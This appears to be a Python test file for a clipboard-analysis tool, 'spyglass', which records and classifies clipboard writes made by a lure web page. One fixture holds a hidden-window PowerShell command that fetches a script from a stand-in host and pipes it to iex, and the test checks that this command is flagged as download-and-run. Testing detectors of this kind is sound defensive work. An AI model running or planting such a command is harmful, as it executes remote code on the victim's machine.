"""``report.clipboard``: the recorded clipboard writes, each with its classification."""

from __future__ import annotations

from datetime import UTC, datetime

from spyglass.analyze.document.clipboard import add_clipboard
from spyglass.models import ClipboardWrite, RawCapture
from tests.conftest import report_of

AT = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


def capture_with(*writes: ClipboardWrite) -> RawCapture:
    return RawCapture(
        url="https://lure.test/",
        final_url="https://lure.test/",
        started_at=AT,
        finished_at=AT,
        clipboard=list(writes),
    )


def test_each_write_in_order_with_time_and_classification() -> None:
    capture = capture_with(
        ClipboardWrite(
            text="ipconfig /flushdns",
            api="execCommand",
            url="https://lure.test/",
            timestamp=AT.timestamp(),
        ),
        ClipboardWrite(
            text='powershell -w h -c "iwr https://x.example/s.ps1 | iex"',
            api="copy-event",
            url="https://lure.test/",
            script="https://lure.test/static/app.js",
            timestamp=AT.timestamp() + 1.5,
        ),
    )
    report = report_of(capture)  # build_report calls add_clipboard

    first, second = report.clipboard
    assert first.text == "ipconfig /flushdns" and first.api == "execCommand"
    assert first.time == "2026-03-01T12:00:00.000Z"
    assert first.classification.kind == "text"
    assert not first.classification.dangerous
    assert second.script == "https://lure.test/static/app.js"
    assert second.time == "2026-03-01T12:00:01.500Z"
    assert second.classification.kind == "powershell"
    assert second.classification.urls == ["https://x.example/s.ps1"]
    assert second.classification.hosts == ["x.example"]
    written = report.to_json_dict()["clipboard"][1]
    assert list(written) == ["text", "api", "url", "script", "time", "classification"]
    assert written["classification"]["downloadsAndRuns"] is True


def test_no_writes_no_entries_and_a_missing_time_stays_missing() -> None:
    report = report_of(capture_with())
    assert report.clipboard == []

    capture = capture_with(ClipboardWrite(text="x", api="clipboard.writeText"))
    add_clipboard(report, capture)
    assert report.clipboard[0].time is None
    assert report.clipboard[0].url is None
